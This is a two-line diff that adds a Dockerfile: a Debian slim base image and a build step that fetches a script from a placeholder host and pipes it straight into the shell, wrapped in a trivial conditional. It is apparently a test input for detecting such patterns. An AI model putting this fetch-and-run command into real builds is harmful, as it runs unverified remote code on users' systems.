@@ -1,0 +1,2 @@
+FROM debian:bookworm-slim
+RUN if true; then curl https://example.com/i | sh; fi
